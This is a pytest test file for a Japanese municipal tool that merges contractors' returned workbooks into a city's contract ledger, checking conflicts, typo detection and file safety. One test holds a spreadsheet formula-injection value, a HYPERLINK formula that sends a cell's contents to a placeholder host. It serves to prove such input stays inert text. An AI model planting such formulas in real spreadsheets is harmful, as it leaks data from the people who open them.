"""`merge`: contractors' returned workbooks folded into a copy of the city's ledger, losing nothing.

Rows are matched by key; what is added, changed, left out or removed is listed
with its file and cell; a returned workbook changes only its own contract.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from hino_forms.contractor.blank import write_input_workbook
from hino_forms.contractor.merge import Action, merge_workbooks
from hino_forms.contractor.prefill import load_prefill
from hino_forms.contractor.returned import expand_returned
from hino_forms.errors import BadOption, OutputExists
from hino_forms.forms.checklists import load_checklist
from hino_forms.planning.rules import plan
from hino_forms.workbook.reader import read_workbook
from hino_forms.workbook.schema import SHEETS
from hino_forms.xlsx import put
from tests.builders import contract_row, write_workbook
from tests.conftest import SAMPLE, CliResult

Cli = Callable[..., CliResult]
TAMA, HIKARI = "有限会社架空たまサポート", "株式会社架空ひかり保守"
LEDGER_HEADERS = {s.name: [c.header for c in s.read_columns] for s in SHEETS}

CONTRACTS = [
    contract_row(
        契約番号="R7-001",
        業務名="架空窓口受付業務委託",
        機密性区分=3,
        重要情報の保存="有",
        再委託="有",
        契約締結日=date(2025, 3, 25),
        契約開始日=date(2025, 4, 1),
        契約終了日=date(2027, 3, 31),
    ),
    contract_row(契約番号="R7-002", 業務名="架空システム保守業務委託"),
]


def _sub(name: str, applied: date) -> dict[str, Any]:
    return {
        "契約番号": "R7-001",
        "再委託先名称": name,
        "再委託先所在地": "東京都日野市架空町2-2-2",
        "再委託業務内容": "データ入力",
        "機密性区分": 2,
        "特定個人情報": "無",
        "重要情報の保存": "無",
        "申請日": applied,
        "承認日": date(2025, 3, 28),
        "承認番号": "日架第1号",
    }


SUBS = [_sub(TAMA, date(2025, 3, 26)), _sub(HIKARI, date(2025, 3, 27))]


def _staff(name: str, sub: str | None = None, **more: Any) -> dict[str, Any]:
    row = {
        "契約番号": "R7-001",
        "再委託先名称": sub,
        "氏名": name,
        "所属": "窓口部",
        "役割": "受付",
        "重要情報取扱": "有",
        "特定個人情報取扱": "無",
        "研修受講日": date(2025, 3, 20),
    }
    return row | more


STAFF = [
    _staff("架空 一子"),
    _staff("架空 二郎"),
    _staff("架空 三子"),
    _staff("下請 四郎", TAMA),
    _staff("下請 五子", TAMA),
    _staff("保守 六太", HIKARI),
    _staff("保守 七海", HIKARI),
    {
        "契約番号": "R7-002",
        "氏名": "他社 八郎",
        "重要情報取扱": "有",
        "研修受講日": date(2025, 3, 1),
    },
]
TRAININGS = [
    {"契約番号": "R7-001", "研修名": "情報セキュリティ研修", "実施日": date(2025, 3, 20)},
    {
        "契約番号": "R7-001",
        "再委託先名称": TAMA,
        "研修名": "情報セキュリティ研修",
        "実施日": date(2025, 3, 21),
    },
]
DISPOSALS = [
    {
        "契約番号": "R7-001",
        "資料名": "申請書控え",
        "区分": "紙",
        "媒体": "紙",
        "数量": "120枚",
        "方法": "廃棄",
        "具体的方法": "裁断",
        "実施日": date(2027, 3, 31),
        "実施者": "架空 一子",
        "立会者": "日野 架空",
    }
]
# The ② report of 令和8年度 the city already holds: it must survive the round trip.
OLD_ANSWERS = [
    {"契約番号": "R7-001", "様式": 4, "時期": "②", "年度": 2026, "項目番号": str(n), "回答": "はい"}
    for n in range(1, 5)
] + [
    {
        "契約番号": "R7-001",
        "様式": 4,
        "時期": "②",
        "年度": 2026,
        "項目番号": "5",
        "回答": "いいえ",
        "備考": "改善計画を提出済み",
    }
]


@pytest.fixture
def ledger(tmp_path: Path) -> Path:
    """The city's ledger: R7-001 with two subcontractors, staff, training, disposal, ② answers."""
    return write_workbook(
        tmp_path / "台帳.xlsx",
        {
            "契約": CONTRACTS,
            "従事者": STAFF,
            "研修": TRAININGS,
            "再委託": SUBS,
            "廃棄": DISPOSALS,
            "報告": OLD_ANSWERS,
        },
        headers=LEDGER_HEADERS,
    )


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def rows_of(path: Path, sheet: str, cid: str | None = None) -> list[dict[str, Any]]:
    """The filled cells of each row (of ``cid``), dates as dates, as a reader would compare them."""
    ws = load_workbook(path)[sheet]
    headers = [c.value for c in ws[1]]
    out = []
    for values in ws.iter_rows(min_row=2, values_only=True):
        row = {
            h: (v.date() if hasattr(v, "date") else v)
            for h, v in zip(headers, values)
            if v is not None and h is not None
        }
        if row and (cid is None or row.get("契約番号") == cid):
            out.append(row)
    return out


def find_row(ws: Worksheet, header: str, value: Any) -> int:
    col = [c.value for c in ws[1]].index(header) + 1
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, col).value == value:
            return r
    raise AssertionError(f"{ws.title}: no row with {header} = {value}")


def set_cell(ws: Worksheet, row: int, header: str, value: Any) -> None:
    put(ws, row, [c.value for c in ws[1]].index(header) + 1, value)


def append_row(ws: Worksheet, values: dict[str, Any]) -> int:
    """Type a new row under the last one, as a contractor would (text stays text)."""
    headers = [c.value for c in ws[1]]
    r = max((c.row for c in ws["A"] if c.value is not None), default=1) + 1
    for h, v in values.items():
        put(ws, r, headers.index(h) + 1, v)
    return r


def prefilled(ledger: Path, tmp_path: Path, cid: str = "R7-001", name: str = "返送.xlsx") -> Path:
    """``init --from`` for ``cid``, listing the ① reports (the window of 契約締結日)."""
    prefill = load_prefill(ledger, cid, date_from=date(2025, 3, 1), date_to=date(2025, 3, 31))
    return write_input_workbook(tmp_path / name, prefill=prefill)


# ---- the round trip of issue 12 ----


def fill_as_contractor(path: Path) -> dict[str, int]:
    """Add a staff member, change one, leave one out, answer the contractor's own ① items."""
    wb = load_workbook(path)
    staff = wb["従事者"]
    changed = find_row(staff, "氏名", "架空 二郎")
    set_cell(staff, changed, "所属", "窓口第二部")
    staff.delete_rows(find_row(staff, "氏名", "架空 三子"))
    added = append_row(
        staff,
        {
            "氏名": "新規 九子",  # 契約番号 left blank: this workbook is for R7-001
            "所属": "窓口部",
            "役割": "受付",
            "重要情報取扱": "有",
            "特定個人情報取扱": "無",
            "研修受講日": date(2025, 3, 20),
        },
    )
    report = wb["報告"]
    headers = [c.value for c in report[1]]
    answered = 0
    for r in range(2, report.max_row + 1):
        cell = dict(zip(headers, (c.value for c in report[r])))
        if cell["時期"] == "①" and cell["再委託先名称"] is None and cell["様式"] == 4:
            set_cell(report, r, "回答", "はい" if cell["項目番号"] != "13" else "いいえ")
            if cell["項目番号"] == "13":
                set_cell(report, r, "備考", "USBメモリは廃棄済み")
            answered += 1
    wb.save(path)
    return {"changed": find_row(staff, "氏名", "架空 二郎"), "added": added, "answered": answered}


def test_the_round_trip_loses_nothing_and_lists_every_row(
    ledger: Path, tmp_path: Path, cli: Cli
) -> None:
    before = sha(ledger)
    back = tmp_path / "R7-001_返送.xlsx"
    done = cli(
        "init", back, "--from", ledger, "--contract", "R7-001",
        "--report-from", "2025-03-01", "--report-to", "2025-03-31",
    )  # fmt: skip
    assert done.code == 0, done.err
    where = fill_as_contractor(back)
    form4_first = [i for i in load_checklist(4) if "①" in i.timings]
    assert where["answered"] == len(form4_first)

    out, listing = tmp_path / "統合.xlsx", tmp_path / "統合結果.xlsx"
    result = cli("merge", ledger, back, "--out", out, "--report", listing)
    assert result.code == 0, result.out + result.err
    assert sha(ledger) == before  # the ledger itself is never written

    # Every old row is still there, the change and the addition applied.
    staff = {r["氏名"]: r for r in rows_of(out, "従事者")}
    assert set(staff) == {r["氏名"] for r in STAFF} | {"新規 九子"}
    assert staff["架空 二郎"]["所属"] == "窓口第二部"
    assert staff["架空 三子"]["所属"] == "窓口部"  # left out of the returned book, kept
    assert staff["新規 九子"]["契約番号"] == "R7-001"  # the blank 契約番号 made explicit
    assert [r["氏名"] for r in rows_of(out, "従事者") if r.get("再委託先名称") == HIKARI] == [
        "保守 六太",
        "保守 七海",
    ]
    answers = rows_of(out, "報告", "R7-001")
    assert [a for a in answers if a["時期"] == "②"] == OLD_ANSWERS
    first = [a for a in answers if a["時期"] == "①"]
    assert len(first) == len(form4_first)
    assert {"項目番号": "13", "回答": "いいえ", "備考": "USBメモリは廃棄済み"}.items() <= next(
        a for a in first if a["項目番号"] == "13"
    ).items()
    assert "確認項目" not in [c.value for c in load_workbook(out)["報告"][1]]  # not a ledger column
    assert rows_of(out, "研修") == TRAININGS
    assert rows_of(out, "廃棄") == DISPOSALS

    # The summary and the report list each row, with the returned file and cell.
    text = result.out
    assert "R7-001（R7-001_返送.xlsx）: 追加" in text
    assert (
        f"変更 従事者!C{where['changed']} 氏名「架空 二郎」: 所属「窓口部」→「窓口第二部」" in text
    )
    assert f"追加 従事者!C{where['added']} 氏名「新規 九子」" in text
    assert "台帳のみ（残した） 台帳 従事者 4行目 氏名「架空 三子」" in text
    assert "--replace" in text
    report = load_workbook(listing)["統合結果"]
    rows = [[c.value for c in r] for r in report.iter_rows(min_row=2)]
    kinds = {(r[3], r[4]) for r in rows}
    assert ("変更", "氏名「架空 二郎」") in kinds and ("追加", "氏名「新規 九子」") in kinds
    assert ("台帳のみ（残した）", "氏名「架空 三子」") in kinds
    assert sum(r[2] == "報告" and r[3] == "追加" for r in rows) == len(form4_first)
    assert all(r[0] == "R7-001_返送.xlsx" and r[1] == "R7-001" for r in rows)
    assert next(r for r in rows if r[4] == "氏名「架空 三子」")[6] == 4  # the ledger's row
    assert next(r for r in rows if r[4] == "氏名「新規 九子」")[5] == f"従事者!C{where['added']}"

    # The merged ledger plans exactly like one written by hand.
    merged = read_workbook(out)
    assert not merged.has_errors, merged.problems
    new_staff = [r | {"所属": "窓口第二部"} if r["氏名"] == "架空 二郎" else r for r in STAFF] + [
        _staff("新規 九子")
    ]
    by_hand = write_workbook(
        tmp_path / "手作業.xlsx",
        {
            "契約": CONTRACTS,
            "従事者": new_staff,
            "研修": TRAININGS,
            "再委託": SUBS,
            "廃棄": DISPOSALS,
            "報告": OLD_ANSWERS
            + [
                {"契約番号": "R7-001", "様式": 4, "時期": "①", "項目番号": i.no, "回答": "はい"}
                for i in form4_first
            ],
        },
        headers=LEDGER_HEADERS,
    )
    expected = read_workbook(by_hand)
    assert [s.as_dict() for s in plan(merged)] == [s.as_dict() for s in plan(expected)]
    assert sorted((s.name, s.affiliation) for s in merged.staff) == sorted(
        (s.name, s.affiliation) for s in expected.staff
    )
    assert len(merged.answers) == len(expected.answers)
    assert {"様式第4号-①", "様式第4号-②", "様式第6号", "様式第7号"} <= {
        s.label for s in plan(merged)
    }

    # --replace removes the row left out, and says so.
    replaced = cli("merge", ledger, back, "--out", out, "--replace", "--force")
    assert replaced.code == 0
    assert "架空 三子" not in {r["氏名"] for r in rows_of(out, "従事者")}
    assert "削除 台帳 従事者 4行目 氏名「架空 三子」" in replaced.out
    assert {r["氏名"] for r in rows_of(out, "従事者")} == {r["氏名"] for r in new_staff} - {
        "架空 三子"
    }


def test_an_untouched_prefilled_workbook_and_the_ledger_itself_change_nothing(
    tmp_path: Path,
) -> None:
    back = write_input_workbook(
        tmp_path / "R7-002.xlsx", prefill=load_prefill(SAMPLE, "R7-002", today=date(2026, 1, 1))
    )
    for returned in (back, SAMPLE):
        out = tmp_path / f"統合_{returned.stem}.xlsx"
        report = merge_workbooks(SAMPLE, [returned], out=out)
        assert report.conflicts == () and report.changes == ()
        for sheet in load_workbook(SAMPLE).sheetnames:
            assert rows_of(out, sheet) == rows_of(SAMPLE, sheet), sheet  # 従事者 stays 44 rows


def test_the_citys_item_changes_come_back_unchanged_or_the_workbook_is_held(
    tmp_path: Path,
) -> None:
    back = write_input_workbook(
        tmp_path / "R7-002.xlsx", prefill=load_prefill(SAMPLE, "R7-002", today=date(2026, 1, 1))
    )
    wb = load_workbook(back)
    ws = wb["項目調整"]
    assert ws["D3"].value == "削除"
    ws["D3"] = "変更"  # the contractor tries to keep an item the city deleted
    ws["E3"] = "会議データは削除している。"
    wb.save(back)
    report = merge_workbooks(SAMPLE, [back], out=tmp_path / "統合.xlsx")
    assert report.merged == ()
    [c] = report.conflicts
    assert c.contract_id == "R7-002"
    assert "「項目調整」シート（3行目）が市の記入内容から変わっています" in c.message
    assert rows_of(report.out, "項目調整") == rows_of(SAMPLE, "項目調整")


def test_a_workbook_with_two_contracts_changes_each_once(ledger: Path, tmp_path: Path) -> None:
    both = tmp_path / "両方.xlsx"
    shutil.copy(ledger, both)
    wb = load_workbook(both)
    append_row(wb["従事者"], {"契約番号": "R7-001", "氏名": "追加 一"})
    append_row(wb["従事者"], {"契約番号": "R7-002", "氏名": "追加 二"})
    wb.save(both)
    report = merge_workbooks(ledger, [both], out=tmp_path / "統合.xlsx")
    assert report.conflicts == ()
    assert sorted(c.row for c in report.changes) == ["氏名「追加 一」", "氏名「追加 二」"]
    names = [r["氏名"] for r in rows_of(report.out, "従事者")]
    assert len(names) == len(STAFF) + 2 and len(set(names)) == len(names)


def test_a_prefilled_workbook_changes_only_its_own_contract(ledger: Path, tmp_path: Path) -> None:
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    append_row(wb["従事者"], {"契約番号": "R7-001", "氏名": "自社 一"})
    other = append_row(wb["従事者"], {"契約番号": "R7-002", "氏名": "越境 者"})
    wb.save(back)
    report = merge_workbooks(ledger, [back], out=tmp_path / "統合.xlsx")
    [refused] = report.conflicts
    assert refused.contract_id == "R7-002"
    assert "契約「R7-001」用" in refused.message and f"従事者!A{other}" in refused.message
    assert [c.row for c in report.changes] == ["氏名「自社 一」"]
    assert [r["氏名"] for r in rows_of(report.out, "従事者", "R7-002")] == ["他社 八郎"]


def test_a_mistyped_contract_id_names_the_nearest_and_holds_the_contract(
    ledger: Path, tmp_path: Path
) -> None:
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    row = append_row(wb["研修"], {"契約番号": "R7-0O1", "研修名": "追加研修"})
    wb.save(back)
    report = merge_workbooks(ledger, [back], out=tmp_path / "統合.xlsx")
    assert report.merged == ()
    [c] = report.conflicts
    assert c.contract_id == "R7-001"
    assert f"研修!A{row} の契約番号「R7-0O1」" in c.message
    assert "「R7-001」の誤りではありませんか" in c.message
    assert "契約「R7-001」の様式第3号にこの行が入りません" in c.message


def test_a_mistyped_subcontractor_names_the_nearest(ledger: Path, tmp_path: Path) -> None:
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    row = append_row(wb["従事者"], {"再委託先名称": "有限会社架空たまサポー", "氏名": "誤記 者"})
    wb.save(back)
    [c] = merge_workbooks(ledger, [back], out=tmp_path / "統合.xlsx").conflicts
    assert c.contract_id == "R7-001" and f"従事者!B{row}" in c.message
    assert f"「{TAMA}」の誤りではありませんか" in c.message
    assert "契約「R7-001」の様式第2号・様式第3号にこの行が入りません" in c.message


def test_two_workbooks_changing_one_row_differently_conflict(ledger: Path, tmp_path: Path) -> None:
    a, b = prefilled(ledger, tmp_path, name="A.xlsx"), prefilled(ledger, tmp_path, name="B.xlsx")
    for path, place in ((a, "窓口A"), (b, "窓口B")):
        wb = load_workbook(path)
        set_cell(wb["従事者"], find_row(wb["従事者"], "氏名", "架空 一子"), "所属", place)
        append_row(wb["従事者"], {"氏名": f"{place} 担当"})
        wb.save(path)
    report = merge_workbooks(ledger, [a, b], out=tmp_path / "統合.xlsx")
    assert report.merged == ()
    assert {(c.source.name, c.contract_id) for c in report.conflicts} == {
        ("A.xlsx", "R7-001"),
        ("B.xlsx", "R7-001"),
    }
    message = report.conflicts[0].message
    assert "氏名「架空 一子」を A.xlsx（従事者!C2）と B.xlsx（従事者!C2）が違う内容" in message
    assert [r["所属"] for r in rows_of(report.out, "従事者") if r["氏名"] == "架空 一子"] == [
        "窓口部"
    ]
    # The same edit in both, or edits of different rows, are no conflict.
    wb = load_workbook(b)
    set_cell(wb["従事者"], find_row(wb["従事者"], "氏名", "架空 一子"), "所属", "窓口A")
    wb.save(b)
    report = merge_workbooks(ledger, [a, b], out=tmp_path / "統合.xlsx", force=True)
    assert report.conflicts == ()
    assert {c.row for c in report.changes if c.action is Action.ADDED} == {
        "氏名「窓口A 担当」",
        "氏名「窓口B 担当」",
    }


def test_a_changed_city_cell_is_a_conflict_and_nothing_is_merged(
    ledger: Path, tmp_path: Path
) -> None:
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    wb["契約"]["K2"] = 1  # 機密性区分
    append_row(wb["従事者"], {"氏名": "新規 者"})
    wb.save(back)
    report = merge_workbooks(ledger, [back], out=tmp_path / "統合.xlsx")
    assert report.merged == ()
    [c] = report.conflicts
    assert c.contract_id == "R7-001" and "契約!K2" in c.message and "機密性区分" in c.message
    assert "市の担当課へ連絡" in c.message
    assert "新規 者" not in {r["氏名"] for r in rows_of(report.out, "従事者")}


def test_an_approved_subcontractor_changed_or_self_approved_is_a_conflict(
    ledger: Path, tmp_path: Path
) -> None:
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    wb["再委託"]["E2"] = "データ入力と発送"  # the approved row's 再委託業務内容
    r = append_row(wb["再委託"], {"再委託先名称": "架空印刷合同会社", "承認日": date(2025, 4, 1)})
    wb.save(back)
    [c] = merge_workbooks(ledger, [back], out=tmp_path / "統合.xlsx").conflicts
    assert "再委託!E2" in c.message and f"承認済みの再委託先「{TAMA}」" in c.message
    assert f"再委託!S{r}" in c.message and "市が記入する欄" in c.message


def test_formula_text_stays_text_and_the_files_are_owner_only(
    ledger: Path, tmp_path: Path, cli: Cli
) -> None:
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'
    append_row(wb["従事者"], {"氏名": "架空 式子", "役割": evil})
    wb.save(back)
    out, listing = tmp_path / "統合.xlsx", tmp_path / "一覧.xlsx"
    assert cli("merge", ledger, back, "--out", out, "--report", listing).code == 0
    for path in (out, listing):
        assert os.stat(path).st_mode & 0o777 == 0o600
        with zipfile.ZipFile(path) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in z.read(n) for n in sheets), path
    assert next(r for r in rows_of(out, "従事者") if r["氏名"] == "架空 式子")["役割"] == evil
    merged = read_workbook(out)
    assert next(s for s in merged.staff if s.name == "架空 式子").role == evil
    assert not list(tmp_path.glob(".*"))  # no temporary file left beside them


def test_control_characters_from_word_are_cleaned_not_a_crash(
    ledger: Path, tmp_path: Path, cli: Cli
) -> None:
    # Excel stores Word's line break as _x000B_; python-calamine decodes it, openpyxl cannot write it.
    back = prefilled(ledger, tmp_path)
    wb = load_workbook(back)
    staff = {"氏名": "架空 改行", "所属": "窓口部_x000B_二課_x0000_", "役割": "受付"}
    append_row(wb["従事者"], staff | {"重要情報取扱": "有", "特定個人情報取扱": "無"})
    wb.save(back)
    out = tmp_path / "統合.xlsx"
    assert cli("merge", ledger, back, "--out", out).code == 0
    assert (
        next(r for r in rows_of(out, "従事者") if r["氏名"] == "架空 改行")["所属"]
        == "窓口部\n二課"
    )


def test_patterns_are_expanded_and_one_that_matches_nothing_is_an_error(
    ledger: Path, tmp_path: Path, cli: Cli
) -> None:
    backs = tmp_path / "返送"
    backs.mkdir()
    for cid in ("R7-001", "R7-002"):
        path = prefilled(ledger, backs, cid, name=f"返送_{cid}.xlsx")
        wb = load_workbook(path)
        append_row(wb["従事者"], {"氏名": f"新規 {cid}"})
        wb.save(path)
    assert expand_returned([str(backs / "返送_*.xlsx")]) == sorted(backs.glob("返送_*.xlsx"))
    out = tmp_path / "統合.xlsx"
    done = cli("merge", ledger, backs / "返送_*.xlsx", "--out", out)
    assert done.code == 0, done.err
    assert "取り込んだ契約: 2件" in done.out
    nothing = cli("merge", ledger, backs / "返信_*.xlsx", "--out", tmp_path / "空.xlsx")
    assert nothing.code == 2 and "「" in nothing.err and "に合うファイルがありません" in nothing.err
    assert not (tmp_path / "空.xlsx").exists()
    with pytest.raises(BadOption, match="見つかりません"):
        expand_returned([str(tmp_path / "ない.xlsx")])


def test_the_ledger_is_never_the_output_nor_overwritten(ledger: Path, tmp_path: Path) -> None:
    before = sha(ledger)
    with pytest.raises(BadOption):
        merge_workbooks(ledger, [], out=ledger, force=True)
    other = tmp_path / "既存.xlsx"
    other.write_bytes(b"x")
    with pytest.raises(OutputExists):
        merge_workbooks(ledger, [], out=other)
    merge_workbooks(ledger, [], out=other, force=True)
    assert load_workbook(other).sheetnames == load_workbook(ledger).sheetnames
    assert sha(ledger) == before


def test_cli_summary_is_japanese_and_exits_1_on_conflicts(
    ledger: Path, tmp_path: Path, cli: Cli
) -> None:
    good = prefilled(ledger, tmp_path, name="良.xlsx")
    wb = load_workbook(good)
    append_row(wb["従事者"], {"氏名": "良 一"})
    wb.save(good)
    bad = prefilled(ledger, tmp_path, "R7-002", name="悪.xlsx")
    wb = load_workbook(bad)
    wb["契約"]["B2"] = "書き換え"
    wb.save(bad)
    out = tmp_path / "統合.xlsx"
    done = cli("merge", ledger, good, bad, "--out", out)
    assert done.code == 1
    assert "取り込んだ契約: 1件" in done.out and "R7-001（良.xlsx）: 追加 1行" in done.out
    assert "取り込まなかったもの: 1件" in done.out and "R7-002（悪.xlsx）" in done.out
    assert "業務名" in done.out
    assert cli("merge", ledger, good, "--out", out).code == 2  # exists: --force needed
    assert cli("merge", ledger, good, "--out", out, "--force").code == 0
